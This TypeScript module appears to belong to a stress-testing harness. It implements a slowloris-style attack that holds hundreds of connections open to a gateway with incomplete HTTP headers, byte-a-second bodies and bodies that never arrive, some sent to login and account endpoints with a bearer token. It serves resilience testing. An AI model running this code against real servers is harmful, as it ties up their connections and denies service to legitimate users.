import { sleepUntilAborted, runWorkers, untilAborted } from '../sending/attack.ts';
import type { Attack, Target } from '../sending/attack.ts';
import { openRaw } from '../sending/raw-connection.ts';
import type { RawConnection } from '../sending/raw-connection.ts';

type SlowRequest = {
  name: string;
  /** Sent at once. */
  head: string;
  /** Sent byte by byte, one a second, without end; nothing follows if it is missing. */
  drip?: string;
};

const slowRequests = (token: string): SlowRequest[] => {
  const host = 'Host: localhost';
  const bearer = `Authorization: Bearer ${token}`;
  const head = (line: string, ...lines: string[]): string =>
    `${[`${line} HTTP/1.1`, host, ...lines].join('\r\n')}\r\n`;
  const json = 'Content-Type: application/json';
  const chunked = 'Transfer-Encoding: chunked';
  return [
    { name: 'silence', head: '' },
    { name: 'headers', head: 'GET / HTTP/1.1\r\n', drip: 'X-A: 1\r\n' },
    { name: 'a body', head: `${head('POST /api/login', json, 'Content-Length: 1000')}\r\n`, drip: 'x' },
    { name: 'chunks', head: `${head('POST /api/login', json, chunked)}\r\n`, drip: '1\r\nx\r\n' },
    { name: 'no body', head: `${head('POST /api/login', json, 'Content-Length: 1000')}\r\n` },
    {
      name: 'no body, with a token',
      head: `${head('PUT /api/account', json, bearer, 'Content-Length: 90000')}\r\n`,
    },
    { name: 'no chunk, with a token', head: `${head('PUT /api/account', json, bearer, chunked)}\r\n` },
    {
      name: 'no body of a large request',
      head: `${head('PUT /api/account', json, bearer, 'Content-Length: 1900000')}\r\n`,
      drip: 'x',
    },
    { name: 'no body of a GET', head: `${head('GET /api/captcha', 'Content-Length: 1000')}\r\n` },
    {
      name: 'no body of a GET, with a token',
      head: `${head('GET /api/account', bearer, 'Content-Length: 1000')}\r\n`,
    },
    { name: 'no chunk of a GET', head: `${head('GET /api/account/prices', chunked)}\r\n` },
    { name: 'no body of a page', head: `${head('GET /login', 'Content-Length: 1000')}\r\n` },
    { name: 'no body of a report', head: `${head('POST /csp-report', json, 'Content-Length: 1000')}\r\n` },
  ];
};

const trickle = async (
  { socket, isClosed }: RawConnection,
  drip: string,
  signal: AbortSignal,
): Promise<void> => {
  for (let at = 0; !isClosed() && !signal.aborted; at += 1) {
    socket.write(drip[at % drip.length] ?? '');
    await sleepUntilAborted(1_000, signal);
  }
};

/** Requests that never end: headers and bodies at a byte a second, and bodies that never come. */
export const slowWrites: Attack = {
  name: 'slow and unsent bodies',
  isSilent: true,
  run: async (target: Target, signal) => {
    const tally = target.createTally();
    const requests = slowRequests(target.attackers.shared(0).token);
    const open: RawConnection[] = [];
    const drips: Promise<void>[] = [];
    await runWorkers({ workers: 20, most: target.isFull ? 400 : 130, signal }, async (n) => {
      const request = requests[n % requests.length];
      const from = Math.floor(n / requests.length) % 2 === 0 ? target.lone : target.crowd(n);
      const connection = await openRaw(target.gateway, from, signal);
      tally.sent();
      if (connection === undefined || request === undefined) return tally.nothing();
      open.push(connection);
      connection.socket.write(request.head);
      if (request.drip !== undefined) drips.push(trickle(connection, request.drip, signal));
    });
    await untilAborted(signal);
    await Promise.all(drips);
    for (const connection of open) {
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(connection.received())?.[1];
      if (status === undefined) tally.nothing();
      else {
        tally.seen(
          { path: '', status: Number(status), contentType: '', text: '', isBare: true },
          'slow request',
        );
      }
    }
    return tally.counts();
  },
};
